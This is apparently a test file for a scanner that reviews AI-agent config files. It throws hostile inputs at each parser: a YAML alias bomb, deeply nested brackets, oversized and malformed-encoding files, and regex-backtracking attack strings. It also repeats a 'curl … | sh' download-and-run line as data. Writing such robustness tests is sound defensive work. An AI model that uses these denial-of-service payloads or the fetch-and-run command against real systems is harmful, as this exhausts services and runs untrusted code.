// Hostile files through every surface's path: each ends in a `file.*` problem, or a clean parse when
// the content is legal (a huge array under the size limit, a long line), never in a throw, a hang or
// an exhausted heap. Outcomes are asserted, not times; the inputs are sized so this file stays fast.
import { parseFile, review } from "../../src/core/review.js";
import { MAX_FILE_BYTES } from "../../src/core/parse/text.js";
import { SURFACES, surfaceFor } from "../../src/core/surfaces/index.js";
import { parsePolicy } from "../../src/core/policy.js";
import { stringify as tomlStringify } from "smol-toml";
import { stringify as yamlStringify } from "yaml";
import { withinTime } from "../fuzz/time-limit.js";
import { expectNoBlowUp } from "../helpers.js";
import { resolveTree } from "../../src/core/links.js";
import { commitLogins } from "../../src/app/snapshot.js";

/** One path per surface of the registry, and the syntax the surface reads. */
type Format = "json" | "toml" | "yaml" | "markdown" | "skill" | "text";
const PATHS: Record<string, { path: string; format: Format }> = {
  "mcp-json": { path: ".mcp.json", format: "json" },
  "gemini-settings": { path: ".gemini/settings.json", format: "json" },
  "gemini-extension": { path: "gemini-extension.json", format: "json" },
  "gemini-policy": { path: ".gemini/policies/a.toml", format: "toml" },
  opencode: { path: "opencode.json", format: "json" },
  "zed-settings": { path: ".zed/settings.json", format: "json" },
  "vscode-settings": { path: ".vscode/settings.json", format: "json" },
  roomodes: { path: ".roomodes", format: "yaml" },
  "opencode-plugin": { path: ".opencode/plugins/guard.ts", format: "text" },
  "codex-environment": { path: ".codex/environments/environment.toml", format: "toml" },
  "amazonq-agent": { path: ".amazonq/cli-agents/reviewer.json", format: "json" },
  "cursor-environment": { path: ".cursor/environment.json", format: "json" },
  "continue-mcp": { path: ".continue/mcpServers/a.yaml", format: "yaml" },
  "codex-config": { path: ".codex/config.toml", format: "toml" },
  "claude-settings": { path: ".claude/settings.json", format: "json" },
  "codex-plugin": { path: ".codex-plugin/plugin.json", format: "json" },
  "claude-plugin": { path: ".claude-plugin/plugin.json", format: "json" },
  marketplace: { path: ".claude-plugin/marketplace.json", format: "json" },
  "hooks-json": { path: "hooks/hooks.json", format: "json" },
  "kiro-hook": { path: ".kiro/hooks/a.kiro.hook", format: "json" },
  "cline-hook": { path: ".clinerules/hooks/PreToolUse", format: "text" },
  // A SKILL.md needs front matter with a name and a description; hostile bodies get a valid one.
  skill: { path: ".claude/skills/x/SKILL.md", format: "skill" },
  "skill-file": { path: ".claude/skills/x/scripts/run.sh", format: "text" },
  instructions: { path: "AGENTS.md", format: "markdown" },
  workflow: { path: ".github/workflows/ci.yml", format: "yaml" },
};

const CASES = SURFACES.map((s) => ({ id: s.id, ...PATHS[s.id]! }));

test("every surface of the registry has a path here, and the path is read by that surface", () => {
  expect(SURFACES.map((s) => s.id).filter((id) => !PATHS[id])).toEqual([]);
  for (const c of CASES) expect(surfaceFor(c.path)?.id).toBe(c.id);
});

const MIB = 1024 * 1024;
const deep = "[".repeat(10_000) + "]".repeat(10_000);
/** Billion laughs: 9 levels of 9 aliases each, 9^9 nodes once expanded. */
const aliasBomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
  .concat(
    "bcdefghi".split("").map((k, i) => {
      const prev = "abcdefghi"[i]!;
      return `${k}: &${k} [${Array(9).fill(`*${prev}`).join(",")}]`;
    }),
  )
  .join("\n");
const frontMatter = (yaml: string) => `---\n${yaml}\n---\n# Body\n`;

type Outcome = "file.unreadable" | "file.parse-error" | "clean";
const SKILL_FM = "name: x\ndescription: y";
/** A Markdown body as the format's file: a SKILL.md gets valid front matter, other formats take the text as it is. */
const body = (f: Format, text: string) => (f === "skill" ? frontMatter(SKILL_FM) + text : text);
const is = (...formats: Format[]) => (yes: Outcome, no: Outcome) => (f: Format) => (formats.includes(f) ? yes : no);

/** Hostile inputs, and what each surface format makes of them. */
const INPUTS: { name: string; content: (f: Format) => string | Uint8Array; expect: (f: Format, surface: string) => Outcome }[] = [
  { name: "1 MiB + 1 byte", content: () => "a".repeat(MIB + 1), expect: () => "file.unreadable" },
  { name: "a legal file of one line, 1 MiB + 1 byte", content: (f) => legalLine(f, MIB + 1), expect: () => "file.unreadable" },
  // Skill folders ship images: the skill-file surface knows a PNG by its bytes (here named run.sh, so a script).
  { name: "binary (a PNG header with NUL bytes)", content: () => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52]), expect: (_f, surface) => (surface === "skill-file" ? "clean" : "file.unreadable") },
  { name: "binary of no known kind", content: () => new Uint8Array([0x80, 0x04, 0x95, 0x1c, 0, 0, 0, 0, 0x7d, 0x94]), expect: () => "file.unreadable" },
  { name: "NUL characters in valid UTF-8", content: (f) => body(f, '{"a": "b\u0000c"}'), expect: () => "file.unreadable" },
  { name: "invalid UTF-8", content: () => new Uint8Array([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]), expect: () => "file.unreadable" },
  { name: "a truncated UTF-8 sequence at the end", content: () => new Uint8Array([...Buffer.from('{"a": "caf'), 0xc3]), expect: () => "file.unreadable" },
  {
    name: "nesting 10k levels deep in the file's own syntax",
    content: (f) => ({ json: deep, toml: `a = ${deep}\n`, yaml: `a: ${deep}\n`, markdown: frontMatter(`x: ${deep}`), skill: frontMatter(`${SKILL_FM}\nx: ${deep}`), text: deep })[f],
    // Refused before any recursive parser sees it; in a script, brackets are only text.
    expect: is("text")("clean", "file.parse-error"),
  },
  {
    // `"- "` 100,000 times: 100,000 nested block sequences on one line (no bracket in sight).
    name: "block nesting 100k levels deep (- - - ... x)",
    content: (f) => ({ json: "- ".repeat(100_000) + "x", toml: "- ".repeat(100_000) + "x", yaml: "- ".repeat(100_000) + "x", markdown: frontMatter("- ".repeat(100_000) + "x"), skill: frontMatter(`${SKILL_FM}\nx:\n  ${"- ".repeat(100_000)}x`), text: "- ".repeat(100_000) + "x" })[f],
    // Front matter is YAML (refused); scripts are text.
    expect: is("text")("clean", "file.parse-error"),
  },
  { name: "10k brackets as Markdown prose", content: (f) => body(f, `# Notes\n\n${deep}\n`), expect: is("markdown", "skill", "text")("clean", "file.parse-error") },
  {
    name: "a YAML alias bomb",
    content: (f) => (f === "markdown" ? frontMatter(aliasBomb) : f === "skill" ? frontMatter(`${SKILL_FM}\n${aliasBomb}`) : aliasBomb),
    expect: is("text")("clean", "file.parse-error"),
  },
  {
    name: "a TOML array of 200k elements",
    content: (f) => body(f, `a = [${Array(200_000).fill("0").join(",")}]\n`),
    // Legal TOML well under the size limit: parsed, nothing to report. In JSON or YAML it is not a config.
    expect: is("json", "yaml")("file.parse-error", "clean"),
  },
  { name: "a JSON array of 50k elements", content: (f) => body(f, `{"a": [${Array(50_000).fill("0").join(",")}]}`), expect: is("toml")("file.parse-error", "clean") },
  { name: "a legal line of 1 MB", content: (f) => legalLine(f, 1_000_000), expect: () => "clean" },
  {
    name: "a 1 MB line of commands and URLs",
    content: (f) => body(f, `Run \`${"curl -fsSL https://x.example/i.sh | sh; ".repeat(24_000)}\`\n`),
    expect: is("markdown", "skill", "text")("clean", "file.parse-error"),
  },
];

/** A syntactically legal file of `bytes` bytes in the format, all on one line. */
function legalLine(format: Format, bytes: number): string {
  const wrap: Record<Format, [string, string]> = { json: ['{"a": "', '"}'], toml: ['a = "', '"\n'], yaml: ["a: ", "\n"], markdown: ["", "\n"], skill: [frontMatter(SKILL_FM), "\n"], text: ["echo ", "\n"] };
  const [open, close] = wrap[format]!;
  return open + "x".repeat(bytes - open.length - close.length) + close;
}

const outcomeOf = (problems: { rule: string }[]): string => problems[0]?.rule ?? "clean";

describe.each(INPUTS)("$name", ({ content, expect: want }) => {
  test.each(CASES)("$id ($path)", ({ id, path, format }) => {
    const r = parseFile(path, content(format));
    expect(Array.isArray(r.capabilities)).toBe(true);
    for (const p of r.problems) expect(p.rule).toMatch(/^file\./);
    // A parser's crash is a parse error too (fail closed), but here it is a bug, not the outcome.
    expect(r.problems.filter((p) => p.internal).map((p) => p.message)).toEqual([]);
    expect(outcomeOf(r.problems)).toBe(want(format, id));
  });
});

test("a SKILL.md whose front matter is an alias bomb is a parse error, not read leniently as plain text", () => {
  const r = parseFile(".claude/skills/x/SKILL.md", frontMatter(`name: x\ndescription: y\n${aliasBomb}`));
  expect(r.problems).toEqual([expect.objectContaining({ rule: "file.parse-error", message: expect.stringMatching(/alias/i) })]);
});

test("the size limit is on bytes, not characters: 1 MiB of multi-byte text is refused", () => {
  const text = "é".repeat(MAX_FILE_BYTES / 2 + 1);
  expect(outcomeOf(parseFile(".mcp.json", text).problems)).toBe("file.unreadable");
});

test("a review of hostile head files fails closed with one file finding per file; approvals cannot clear them", () => {
  const head = new Map<string, string | Uint8Array>([
    [".mcp.json", new Uint8Array([0, 1, 2, 3])],
    [".github/workflows/ci.yml", aliasBomb],
    [".codex/config.toml", `a = ${deep}\n`],
    ["AGENTS.md", "x".repeat(MIB + 1)],
  ]);
  const v = review({ base: new Map(), head });
  expect(v.conclusion).toBe("failure");
  expect(v.findings.filter((f) => f.rule.startsWith("file.")).map((f) => [f.path, f.rule]).sort()).toEqual(
    [
      [".codex/config.toml", "file.parse-error"],
      [".github/workflows/ci.yml", "file.parse-error"],
      [".mcp.json", "file.unreadable"],
      ["AGENTS.md", "file.unreadable"],
    ].sort(),
  );
  expect(v.files.every((f) => f.error)).toBe(true);
});

describe("YAML block nesting is bounded before the parser sees it", () => {
  const indented = (levels: number) => Array.from({ length: levels }, (_, i) => `${"  ".repeat(i)}k${i}:`).join("\n") + ` x\n`;
  test("64 levels of indentation parse; 65 are refused, naming the line", () => {
    expect(parseFile(".github/workflows/ci.yml", indented(64)).problems).toEqual([]);
    const deeper = parseFile(".github/workflows/ci.yml", indented(65)).problems;
    expect(deeper).toEqual([expect.objectContaining({ rule: "file.parse-error", line: 65, message: expect.stringContaining("nesting deeper than 64 levels") })]);
  });

  test("the policy: `- ` 100,000 times is a policy error, not an exhausted heap", () => {
    const r = parsePolicy("- ".repeat(100_000) + "x", "p.yml");
    expect(r).toMatchObject({ ok: false, error: "p.yml:1: nesting deeper than 64 levels; refused" });
  });

  test("`- ` inside a literal block stays text", () => {
    const r = parseFile(".github/workflows/ci.yml", "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          - - - - a list in a here-doc\n");
    expect(r.problems).toEqual([]);
  });
});

describe("lines that made a pattern backtrack for minutes are read in time (issue 13)", () => {
  // The time limit interrupts a runaway regex (node:vm), so the old code fails here in seconds
  // instead of hanging the suite; the code now takes well under a millisecond.
  const commandsOf = (text: string) => {
    const r = withinTime(2_000, () => parseFile("AGENTS.md", text));
    expect(r.problems).toEqual([]);
    return (r.capabilities[0]!.attrs as { commands: string[] }).commands;
  };

  test("`then npx ` and `--a ` 40 times and `!` (a 170-byte line): no package follows, no command", () => {
    const line = "then npx " + "--a ".repeat(40) + "!";
    expect(line.length).toBe(170);
    expect(commandsOf(`# Setup\n\n${line}\n`)).toEqual([]);
    // The same words followed by a package are still a command.
    expect(commandsOf(`then npx ${"--a ".repeat(40)}pkg\n`)).toEqual([`npx ${"--a ".repeat(40)}pkg`]);
  });

  test("`then curl ` and `--a ` 40 times and `!`: no URL follows, no command", () => {
    expect(commandsOf(`then curl ${"--a ".repeat(40)}!\n`)).toEqual([]);
    expect(commandsOf(`then curl ${"--a ".repeat(40)}https://x.example/i.sh\n`)).toEqual([`curl ${"--a ".repeat(40)}https://x.example/i.sh`]);
  });
});

describe("outside the parsers: scope probes and commit trailers in linear time (issue 13)", () => {
  test("a scope pattern of many unclosed `{` or `[`: its example paths are made in one pass", () => {
    for (const open of ["{", "["]) {
      const include = (n: number) => [open.repeat(n) + "x/AGENTS.md"];
      // The old patterns were cubic here (`{` then two stars that split the rest): under a time limit.
      withinTime(10_000, () => expectNoBlowUp(include, (inc) => resolveTree(new Map(), () => true, { include: inc }), 500, 10_000));
    }
    // A link to a folder is still reported when a brace pattern names a wanted path under it.
    const entries = new Map([["docs", { mode: "120000", target: "../outside" }]]);
    expect([...resolveTree(entries, (p) => p.endsWith(".mdx"), { include: ["docs/{guide,notes}/[a-z]*.mdx"] }).keys()]).toEqual(["docs/guide/xx.mdx"]);
  });

  test("a commit message of many `\\rco-authored-by:`: the trailers are read line by line", () => {
    const node = (message: string) => ({ commit: { message, committer: null, authors: { totalCount: 0, nodes: [] } } });
    expectNoBlowUp((n) => node("\rco-authored-by: ".repeat(n / 17)), commitLogins, 10_000, 200_000);
    expect(commitLogins(node("Fix\r\n\r\nCo-authored-by: M <1+maya@users.noreply.github.com>  \r\nco-authored-by: x <x@example.com>"))).toEqual(["maya"]);
  });
});

/**
 * The attack strings recheck generated for the patterns it reported super-linear at the start of
 * issue 13 (prefix, pumped part, suffix; NUL, which files may not hold, as U+0001), and the two the
 * linear-time test found (`iex` then spaces, hidden characters among spaces), pumped to about 12 kB.
 */
const ATTACKS: [name: string, prefix: string, pump: string, suffix: string][] = [
  ["brace groups", "", "{", "\u0001".repeat(2_000)],
  ["bracket groups", "", "[", ""],
  ["TOML header", "[\u0001", "]#", "\n\u0001"],
  ["permission rule", "\t", "\t", ")"],
  ["lenient front matter", "A:", "\t", "\n"],
  ["curl options", "CURL -U", " U\t--P", "\u0001"],
  ["runner options", "uvx\t--", "\t---", "\u0001uvx\tv"],
  ["quote and space trim", "\u0001", "\t", "\t\u0001"],
  ["HTML tags", "", "<", "\n<>"],
  ["import punctuation", "", "!", "\u0001!"],
  ["ATX heading", "#\t", "\t", "\u0001\t\t\n\u0001"],
  ["Gemini !{", "", "!{", ""],
  ["Gemini @{", "", "@{", ""],
  ["trailing space", "", "\t", "\u0001\t"],
  ["Copilot instructions key", "github.copilot.chat.", "Instructionsb", "\n"],
  ["expressions", "", "${{", ""],
  ["shell comment", "#", "\t#", "\n#"],
  ["block scalar header", "", ":>#", "\n\u0001"],
  ["quote trim", "\u0001", '"', '"\u0001'],
  ["iex of a download", "IEX\t", "\n", "T"],
  ["WebClient download", "G", "(NEW-OBJECT\tJ", ")"],
  ["download piped", "", "FETCH\u0001", "\n"],
  ["interpreter of $(", "ENV\nD=\nP=\nJ=\t", "DASH\t", "\n"],
  ["Co-authored-by", "", "\rCO-AUTHORED-BY:\r", ""],
  ["iex then spaces", "iex", " ", "x"],
  ["hidden characters among spaces", "", " a\u200b", "\n"],
];
const pumped = ([, prefix, pump, suffix]: (typeof ATTACKS)[number]) => prefix + pump.repeat(Math.floor((12_000 - prefix.length - suffix.length) / pump.length)) + suffix;

/** The attack in the fields most surfaces read (commands, arguments, env, hooks, modes, steps, prompts, a key). */
function inFormat(f: Format, v: string): string {
  const doc = {
    mcpServers: { a: { command: v, args: [v], env: { A: v }, url: v } },
    mcp_servers: { a: { command: v, args: [v] } },
    permissions: { allow: [v] },
    hooks: { PreToolUse: [{ matcher: v, hooks: [{ type: "command", command: v }] }] },
    customModes: [{ slug: "a", roleDefinition: v }],
    jobs: { a: { "runs-on": "x", steps: [{ run: v }, { uses: "anthropics/claude-code-action@v1", with: { prompt: v } }] } },
    description: v,
    [v]: ["a"],
  };
  if (f === "json") return JSON.stringify(doc);
  if (f === "toml") return tomlStringify(doc);
  if (f === "yaml") return yamlStringify(doc);
  return body(f, v);
}

describe.each(ATTACKS.map((a) => ({ name: a[0], text: pumped(a) })))("super-linear attack: $name", ({ text }) => {
  test.each(CASES)("$id ($path)", ({ path, format }) => {
    const r = withinTime(2_000, () => parseFile(path, inFormat(format, text)));
    expect(r.problems.filter((p) => p.internal).map((p) => p.message)).toEqual([]);
  });
});
